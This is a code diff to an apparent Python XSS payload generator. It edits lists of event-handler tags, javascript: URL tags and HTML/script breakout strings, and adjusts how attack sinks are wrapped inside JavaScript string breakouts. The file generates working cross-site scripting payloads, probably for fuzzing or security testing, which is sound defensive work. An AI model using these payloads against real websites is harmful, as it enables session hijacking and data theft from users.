@@ -32,11 +32,11 @@ EVENT_TAGS = (
     ("object", "data=x", "onerror"), ("body", "", "onpageshow"), ("x", "tabindex=1 autofocus", "onfocus"),
     ("image", "src=x", "onerror"), ("source", "src=x", "onerror"), ("style", "", "onload"),
     ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("input", "type=image src=x", "onerror"),
-    ("p", "", "onpointerenter"), ("keygen", "autofocus", "onfocus"), ("embed", "src=x", "onload"),
+    ("p", "", "onpointerenter"), ("button", "autofocus", "onfocus"), ("embed", "src=x", "onload"),
 )
 URL_TAGS = (("a", "href", ">x</a>"), ("iframe", "src", "></iframe>"), ("object", "data", "></object>"),
             ("embed", "src", ">"), ("form><button", "formaction", ">x</button></form>"),
-            ("math><a", "xlink:href", ">x</a></math>"), ("base", "href", ">"), ("meta http-equiv=refresh", "content", ">"))
+            ("math><a", "xlink:href", ">x</a></math>"), ("svg><a", "href", "><text y=20>x</text></a></svg>"))
 BREAKOUTS = ("", "", "\">", "'>", "\"/>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "\"><!--x-->")
 SEPARATORS = (" ", " ", "/", "\t", "\n", "\r\n", "/x/ ", "  ")
 
@@ -89,8 +89,6 @@ def _script_tag(rng: random.Random) -> str:
 def _url_tag(rng: random.Random) -> str:
     tag, attr, close = one(rng, URL_TAGS)
     value = _js_url(one(rng, SINKS), rng)
-    if tag.startswith("meta"):
-        value = "0;url=" + value
     return f"<{case(tag, rng)} {attr}={_quote(value, rng)}{close}"
 
 
@@ -107,6 +105,8 @@ def _attribute_breakout(rng: random.Random) -> str:
 
 def _js_string_breakout(rng: random.Random) -> str:
     sink = one(rng, SINKS)
+    if "=" in sink:
+        sink = "(" + sink + ")"  # an assignment inside `'-...-'` must be an expression
     return one(rng, (f"';{sink};//", f"\";{sink};//", f"'-{sink}-'", f"\"-{sink}-\"", f"\\';{sink}//",
                      f"</script><script>{sink}</script>", f"${{{sink}}}", f"'}};{sink};{{'", f"\");{sink};(\""))
 
